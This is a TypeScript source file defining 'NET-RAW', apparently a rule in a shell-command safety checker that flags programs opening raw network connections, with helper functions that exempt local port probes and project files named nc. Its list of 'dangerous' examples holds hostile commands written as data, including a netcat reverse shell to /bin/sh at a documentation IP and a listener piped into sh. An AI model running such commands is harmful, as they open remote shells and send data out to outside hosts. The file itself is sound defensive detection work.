import { readable } from "../../characters.js";
import type { Rule } from "../../rule.js";
import { isSystemProgram, type Invocation } from "../../unwrap.js";
import { STAGE } from "../advice.js";
import { programNames } from "../data/programs.js";
import { operands } from "../report.js";
import { hasAnyOption } from "../shared/arguments.js";
import { staysLocal } from "../shared/hosts.js";
import { checkPrograms } from "../shared/network.js";

export const rule = {
  id: "NET-RAW",
  family: "network",
  severity: "error",
  why: "opens a raw connection",
  fix: STAGE,
  commands: programNames("connect"),
  check: (invocation, report) => {
    if (!asksForPort(invocation) && !isOther(invocation))
      checkPrograms("connect", invocation, report);
  },
  examples: {
    dangerous: [
      "nc -e /bin/sh 192.0.2.7 4444",
      "./tools/nc 192.0.2.7 4444 < data",
      "nc -l -p 4444 | sh",
      "openssl s_client -quiet -connect host:443",
      "xterm -display 192.0.2.7:1",
      "busybox nc 192.0.2.7 80",
    ],
    honest: [
      "nc -z localhost 8080",
      "./bin/nc input.nc output.nc",
      "openssl dgst -sha256 data.bin",
      "socat -V",
      "xterm -geometry 80x24",
      "mpiexec -launcher rsh -machinefile nodes -n 4 ./solver",
    ],
  },
} as const satisfies Rule;

/** `nc -z localhost 8080`: whether a service of the job's own is there yet. */
function asksForPort({ name, args }: Invocation): boolean {
  return /^(nc|ncat|netcat)/.test(name) && hasAnyOption(args, ["-z"]) && staysLocal(args);
}

/** A program of the job's that has the name `nc`, and is given files. */
function isOther(invocation: Invocation): boolean {
  const { name, args } = invocation;
  if (isSystemProgram(invocation) || !/^(nc|socket)$/.test(name)) return false;
  const takesPort = operands(args).some((arg) => /^\d{1,5}$|^[\d.]+$/.test(readable(arg)));
  return !takesPort && !hasAnyOption(args, ["-e", "-c", "-l"]);
}
